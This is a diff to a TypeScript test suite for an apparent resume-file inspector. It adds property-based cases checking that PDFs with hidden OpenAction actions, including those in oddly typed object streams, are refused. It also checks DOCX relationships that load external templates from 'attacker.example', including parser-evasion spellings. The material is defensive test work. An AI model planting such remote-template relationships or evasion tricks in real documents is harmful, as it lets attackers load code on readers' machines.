@@ -109,17 +109,20 @@ describe('PDF names, decoded as ISO 32000-1 §7.3.5 defines', () => {
     });
   });
 
-  it('refuses every generated spelling of an active action, in an object stream or a plain object, whatever spells the stream itself', async () => {
+  it('refuses every generated spelling of an active action, in an object stream (whatever its /Type, however spelled) or a plain object', async () => {
     await fc.assert(
       fc.asyncProperty(
         fc.constantFrom(...(Object.keys(HIDDEN_ACTIONS) as (keyof typeof HIDDEN_ACTIONS)[])),
         forms,
         forms,
         fc.boolean(),
-        async (kind, actionForms, structureForms, inObjectStream) => {
+        // pdf.js reads a stream the cross-reference names as an object stream whatever its /Type.
+        fc.constantFrom('ObjStm', 'XObject', 'Metadata'),
+        async (kind, actionForms, structureForms, inObjectStream, objectStreamType) => {
           const pdf = pdfWithOpenAction(HIDDEN_ACTIONS[kind](writer(actionForms)), {
             inObjectStream,
             structure: writer(structureForms),
+            objectStreamType,
           });
           expect(await inspectResume(pdf, 'pdf')).toEqual({
             ok: false,
@@ -262,6 +265,13 @@ describe('DOCX relationships', () => {
       `<?xml version="1.0"?><r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships"><r:Relationship Id="a" Type="${template}" Target="https://attacker.example/t.dotm" TargetMode="External"/></r:Relationships>`,
       // Internal in name, a URL in fact.
       relationshipsXml(`Type="${template}" Target="https://attacker.example/t.dotm"`),
+      // A `>` inside a value does not end the tag; a decoy inside a value is not an attribute.
+      relationshipsXml(
+        `Type="${template}" Target="https://attacker.example/?a>b" TargetMode="External"`,
+      ),
+      relationshipsXml(
+        `Id2="x TargetMode='Internal'" Type="${template}" Target="https://a.example/t" TargetMode="External"`,
+      ),
     ];
     for (const xml of variants)
       expect([xml, await inspectResume(docxWithParts({ [part]: xml }), 'docx')]).toEqual([
@@ -285,9 +295,16 @@ describe('DOCX relationships', () => {
       `<!-- <Relationship Id="x" Type="${template}" Target="https://a.example/t" TargetMode="External"/> --></Relationships>`,
     );
     expect(await inspectResume(docxWithParts({ [part]: commented }), 'docx')).toEqual({ ok: true });
+    const repeated = relationshipsXml(
+      `Type="${template}" Target="https://a.example/t" TargetMode="Internal" TargetMode="External"`,
+    );
+    expect(await inspectResume(docxWithParts({ [part]: repeated }), 'docx')).toEqual({
+      ok: false,
+      reason: `a relationship with a repeated attribute in ${part}`,
+    });
   });
 
-  it('accepts any external hyperlink, refuses any other external relationship type (generated)', async () => {
+  it('accepts any external hyperlink, refuses any other external relationship type but a local template (generated)', async () => {
     const types = fc.oneof(
       fc.constantFrom(
         'attachedTemplate',
@@ -301,22 +318,31 @@ describe('DOCX relationships', () => {
       ),
       fc.stringMatching(/^[A-Za-z]{1,20}$/),
     );
+    // Any text after a scheme: quotes, `>`, `&` and `<` included (escaped as XML requires).
+    const targets = fc
+      .tuple(
+        fc.constantFrom('https://', 'http://', 'mailto:', 'ftp://', 'file:///C:\\', '\\\\'),
+        fc.string({ maxLength: 40 }),
+      )
+      .map(([scheme, rest]) => scheme + rest);
     await fc.assert(
-      fc.asyncProperty(types, fc.webUrl(), async (type, target) => {
+      fc.asyncProperty(types, targets, async (type, target) => {
         const xml = relationshipsXml(
-          `Type="${RELATIONSHIP}/${type}" Target="${target.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}" TargetMode="External"`,
+          `Type="${RELATIONSHIP}/${type}" Target="${target.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;')}" TargetMode="External"`,
         );
         const verdict = await inspectResume(
           docxWithParts({ 'word/_rels/document.xml.rels': xml }),
           'docx',
         );
+        // A template on the writer's own disk is Word's normal output.
+        const local = type === 'attachedTemplate' && target.startsWith('file:///C:');
         expect(verdict).toEqual(
-          type === 'hyperlink'
+          type === 'hyperlink' || local
             ? { ok: true }
             : { ok: false, reason: `an external ${type} (word/_rels/document.xml.rels)` },
         );
       }),
-      { numRuns: 60 },
+      { numRuns: 40 },
     );
   });
 });
